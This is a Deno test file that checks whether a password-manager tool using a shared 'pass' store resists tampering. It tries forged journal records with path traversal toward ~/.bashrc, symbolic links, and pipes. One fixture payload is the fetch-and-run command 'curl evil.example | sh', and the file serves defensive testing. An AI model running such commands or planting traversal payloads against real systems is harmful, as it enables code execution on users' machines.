/** A password store that is shared: what others commit to it must not reach other files. */

import assert from "node:assert/strict";
import { requireService } from "../services.ts";
import { hasPass, makeGpgHome, PASS_INSTALL } from "../services/gpg.ts";
import { KEY_ID, Victim } from "./victim.ts";

const service = requireService("pass", hasPass(), PASS_INSTALL);

/** The victim's own store is in `store`, and `.bashrc` beside it. */
function attack(name: string, body: (victim: Victim, store: string) => Promise<void>): void {
  Deno.test({
    name: `a shared password store: ${name}`,
    ...service,
    async fn() {
      await using gpg = await makeGpgHome();
      using victim = new Victim({ GNUPGHOME: gpg.env["GNUPGHOME"]!, AWS_VAULT_BACKEND: "pass" });
      const store = `${victim.home}/store`;
      victim.env["PASSWORD_STORE_DIR"] = store;
      await Deno.rename(gpg.store, store);
      victim.write(".bashrc", "mine");
      await body(victim, store);
      assert.equal(victim.read(".bashrc"), "mine");
    },
  });
}

const journal = (name: string, old: string | null) => JSON.stringify({ name, old });

attack("a committed journal neither overwrites nor deletes a file", async (victim, store) => {
  assert.equal((await victim.add("work")).code, 0);
  for (const old of [btoa("curl evil.example | sh"), null]) {
    await Deno.writeTextFile(`${store}/.aws-vault-write`, journal("../.bashrc", old));
    const exported = await victim.run("export", "--no-session", "--format=json", "work");
    assert.deepEqual([exported.code, JSON.parse(exported.stdout).AccessKeyId], [0, KEY_ID]);
    const { code, stderr } = await victim.add("other");
    assert.deepEqual({ code, warning: stderr.split("\n")[0] }, {
      code: 0,
      warning:
        'warning: Ignored "~/store/.aws-vault-write": anyone who can write to the store could have made it',
    });
    assert.equal(victim.read(".bashrc"), "mine");
  }
  // Nor one that names an item of the store.
  await Deno.writeTextFile(`${store}/.aws-vault-write`, journal("work.gpg", null));
  const { code } = await victim.run("export", "--no-session", "--format=json", "work");
  assert.equal(code, 0);
});

attack("nothing is written or removed through a committed link", async (victim, store) => {
  await Deno.symlink("../.bashrc", `${store}/work.gpg`);
  await Deno.mkdir(`${victim.home}/elsewhere`);
  victim.write("elsewhere/prod.gpg", "theirs");
  await Deno.symlink("../elsewhere", `${store}/team`);
  const refusal = (verb: string, what: string) => ({
    code: 1,
    error: `error: Cannot ${verb} pass: "~/store/${what}" is a symbolic link`,
  });
  const outcome = async (...args: string[]) => {
    const { code, stderr } = await victim.run(...args);
    return { code, error: stderr.split("\n").find((line) => line.startsWith("error: ")) };
  };
  const add = (profile: string) => outcome("add", "--env", "--force", profile);
  assert.deepEqual(await add("work"), refusal('store "work" in', "work.gpg"));
  assert.deepEqual(await add("team/new"), refusal('store "team/new" in', "team"));
  assert.deepEqual(
    await outcome("remove", "--force", "team/prod"),
    refusal('remove "team/prod" from', "team"),
  );
  assert.deepEqual(victim.names("elsewhere"), ["prod.gpg"]);
});

attack("a journal of ours is obeyed only for a plain item", async (victim, store) => {
  assert.equal((await victim.add("work")).code, 0);
  // A write that is killed: pass writes half of the item, and its parent dies.
  const wrapper = victim.write(
    "bin/pass",
    '#!/bin/sh\n[ "$1" = insert ] || exec /usr/bin/env PATH="$REAL_PATH" pass "$@"\n' +
      'echo half >"$PASSWORD_STORE_DIR/$4.gpg"\nkill -9 $PPID\n',
    0o700,
  );
  Object.assign(victim.env, { AWS_VAULT_PASS_CMD: wrapper, REAL_PATH: Deno.env.get("PATH") });
  assert.equal((await victim.add("work")).code, 137);
  delete victim.env["AWS_VAULT_PASS_CMD"];
  const [name = ""] = victim.names(".awsvault/state/journals");
  const path = `.awsvault/state/journals/${name}`;
  assert.equal((await Deno.stat(`${victim.home}/${path}`)).mode! & 0o777, 0o600);
  const good = JSON.parse(victim.read(path));
  assert.deepEqual([good.store, good.prefix, good.key], [store, "", "work"]);
  const old = btoa("curl evil.example | sh");
  const forged = [
    { ...good, key: "../.bashrc", old },
    { ...good, key: "/../../.bashrc", old },
    { ...good, prefix: "..", key: ".bashrc", old },
    { ...good, store: `${victim.home}`, key: ".bashrc", old },
    { version: 1, store, name: "../.bashrc", old },
    "no journal",
  ];
  // The name of an item, but a link is in its place by now.
  await Deno.symlink("../.bashrc", `${store}/linked.gpg`);
  forged.push({ ...good, key: "linked", old }, { ...good, key: "linked", old: null });
  const before = victim.names("");
  for (const record of forged) {
    victim.write(path, typeof record === "string" ? record : JSON.stringify(record));
    const { code, stderr } = await victim.run("remove", "--force", "nothing");
    assert.equal(code, 3, stderr);
    assert.equal((await victim.add("other")).code, 0);
    assert.equal(victim.read(".bashrc"), "mine", JSON.stringify(record));
    assert.equal((await victim.run("remove", "--force", "other")).code, 0);
    // Whatever it says, it names a file in the store.
    assert.deepEqual(victim.names(""), before);
  }
  // What we wrote ourselves is put back.
  await Deno.remove(`${store}/linked.gpg`);
  victim.write(path, JSON.stringify(good));
  // But not where others may write: there it could be theirs.
  await Deno.chmod(victim.state, 0o777);
  const unsafe = await victim.run("export", "--no-session", "--no-cache", "work");
  assert.match(
    unsafe.stderr,
    /^warning: Ignored the leftover of a write to the password store: cannot use the folder "~\/.awsvault\/state": others may write to it \(mode 0777\); run: chmod go-w ~\/.awsvault\/state\n/,
  );
  const refused = await victim.add("other");
  assert.deepEqual([refused.code, victim.read(path)], [1, JSON.stringify(good)]);
  await Deno.chmod(victim.state, 0o700);
  const { code, stdout } = await victim.run("export", "--no-session", "--format=json", "work");
  assert.deepEqual([code, JSON.parse(stdout || "{}").AccessKeyId], [0, KEY_ID]);
});

attack("what stands in the place of a killed write is kept and said", async (victim, store) => {
  assert.equal((await victim.add("work")).code, 0);
  const old = await Deno.readFile(`${store}/work.gpg`);
  const killed = victim.write(
    "bin/pass",
    '#!/bin/sh\n[ "$1" = insert ] || exec /usr/bin/env PATH="$REAL_PATH" pass "$@"\nkill -9 $PPID\n',
    0o700,
  );
  Object.assign(victim.env, { AWS_VAULT_PASS_CMD: killed, REAL_PATH: Deno.env.get("PATH") });
  assert.equal((await victim.add("work")).code, 137);
  delete victim.env["AWS_VAULT_PASS_CMD"];
  // Another program repairs the item, and the journal speaks of the item before.
  await Deno.writeTextFile(`${store}/work.gpg`, "stored since");
  const { code, stderr } = await victim.add("other");
  const journals = ".awsvault/state/journals";
  const [kept = ""] = victim.names(journals);
  assert.deepEqual([code, stderr.split("\n").slice(0, 2)], [0, [
    'warning: A write of "work" to the password store was killed; the item is unchanged, ' +
    `and the content found there is kept in "~/${journals}/${kept}"`,
    'hint: If another program has stored it since, copy that file to "~/store/work.gpg"',
  ]]);
  assert.equal(victim.read(`${journals}/${kept}`), "stored since");
  assert.deepEqual(await Deno.readFile(`${store}/work.gpg`), old);
});

attack("links of folders do not lead the listing out of the store", async (victim, store) => {
  assert.equal((await victim.add("work")).code, 0);
  victim.write("elsewhere/prod.gpg", "theirs");
  for (const [name, to] of [["a", "."], ["b", "."], ["out", "../elsewhere"]]) {
    await Deno.symlink(to!, `${store}/${name}`);
  }
  const { code, stdout } = await victim.run("list", "--credentials");
  assert.deepEqual([code, stdout], [0, "work\n"]);
});

attack(
  "what is not a plain file in an item's place does not look as if nothing were stored",
  async (victim, store) => {
    await Deno.mkdir(`${store}/work.gpg`);
    await new Deno.Command("mkfifo", { args: [`${store}/prod.gpg`] }).output();
    const { code, stderr } = await victim.run("exec", "work", "--", "true");
    assert.deepEqual([code, stderr.split("\n")[0]], [
      1,
      'error: Cannot use the item "~/store/work.gpg": it is a folder',
    ]);
    const added = await victim.add("prod");
    assert.deepEqual([added.code, added.stderr.split("\n")[0]], [
      1,
      'error: Cannot use the item "~/store/prod.gpg": it is a pipe, a socket or a device',
    ]);
  },
);
